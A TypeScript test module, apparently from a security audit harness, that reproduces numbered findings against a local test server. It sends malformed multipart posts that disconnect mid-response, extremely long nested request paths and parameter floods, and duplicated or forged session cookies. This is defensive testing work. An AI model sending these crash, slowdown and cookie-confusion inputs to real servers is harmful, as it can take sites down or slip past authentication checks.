import { setTimeout as pause } from "node:timers/promises";
import { longestWait, send, sendAndLeave, signIn } from "./attacker";
import type { Attack, Figure } from "./attacks";
import type { MeasuredServer } from "./server";

const LONGEST_HEAD = 16_000;

/** Findings 1, 2 and 9: the head of a request. */
export const requests: Attack[] = [
  unusable("no usable boundary", "x-boundary=b", ""),
  unusable("boundary of 300", `boundary=${"x".repeat(300)}`, ""),
  unusable(
    "behind GET /, no usable boundary",
    "x-boundary=b",
    "GET / HTTP/1.1\r\nHost: site.example\r\n\r\n",
  ),
  unusable(
    "behind GET /, boundary of 300",
    `boundary=${"x".repeat(300)}`,
    "GET / HTTP/1.1\r\nHost: site.example\r\n\r\n",
  ),
  { number: 2, run: askDeep },
  { number: 9, run: sendTwoSessions },
  { number: 9, settings: { PUBLIC_URL: "https://site.example" }, run: nameSession },
];

/** Nine posts, each disconnecting at another moment of the response time. */
function unusable(name: string, parameter: string, ahead: string): Attack {
  const paths = ["/admin/login", "/contact", "/api/contact/add", "/api/account/login"];
  return {
    number: 1,
    async run(server) {
      const headers = { "Content-Type": `multipart/form-data; ${parameter}` };
      let sent = 0;
      for (const path of paths) {
        if (!server.isAlive()) break;
        const post = `${ahead}POST ${path} HTTP/1.1\r\nHost: site.example\r\nContent-Type: ${headers["Content-Type"]}\r\nContent-Length: 100\r\n\r\n--x`;
        const { time } = await send(server.port, path, { headers, body: "--x" });
        for (let index = 1; index <= 9 && server.isAlive(); index += 1) {
          sent += 1;
          await sendAndLeave(server.port, post, ((ahead ? 3 : 1) * time * index) / 9);
          await pause(100);
        }
      }
      const outcome = server.isAlive() ? "alive after" : "ENDED within";
      return [{ name: `posts: ${name}`, words: `${outcome} ${sent}` }];
    },
  };
}

async function askDeep(server: MeasuredServer) {
  const fill = (start: string, part: string) =>
    start + part.repeat(Math.floor((LONGEST_HEAD - start.length) / part.length));
  const paths: Record<string, string> = {
    "/ and a/ 8,000 times": fill("/", "a/"),
    "/ and %61/ 4,000 times": fill("/", "%61/"),
    "/a and 16,000 empty segments": fill("/a", "/"),
    "/ and a// 5,300 times": fill("/", "a//"),
    "/admin/ and a/": fill("/admin/", "a/"),
    "/portfolio/ and a/": fill("/portfolio/", "a/"),
    "/api/ and a/": fill("/api/", "a/"),
    "/privacy, 5,300 parameters": fill("/privacy?a=1", "&a="),
  };
  const figures: Figure[] = [];
  for (const [name, path] of Object.entries(paths)) {
    const { result, longest } = await longestWait(server, () => send(server.port, path));
    figures.push({ name, time: result.time, words: `${result.status}` });
    figures.push({ name: "  another visitor waits at most", time: longest });
  }
  return figures;
}

async function sendTwoSessions(server: MeasuredServer) {
  const { session } = await signIn(server);
  const name = session.split("=")[0];
  const path = "/api/account/auth";
  const ask = async (Cookie: string) => {
    const { status } = await send(server.port, path, { headers: { Cookie } });
    return `${status}`;
  };
  return [
    { name: "the good cookie alone", words: await ask(session) },
    { name: "a bad one in front of it", words: await ask(`${name}=bad; ${session}`) },
    { name: "a forged one in front of it", words: await ask(`${name}=e30%3D.eA; ${session}`) },
    { name: "a bad one behind it", words: await ask(`${session}; ${name}=bad`) },
    { name: "a bad __session in front of it", words: await ask(`__session=bad; ${session}`) },
  ];
}

async function nameSession(server: MeasuredServer) {
  const { session } = await signIn(server);
  return [{ name: "its name under https", words: session.split("=")[0] ?? "" }];
}
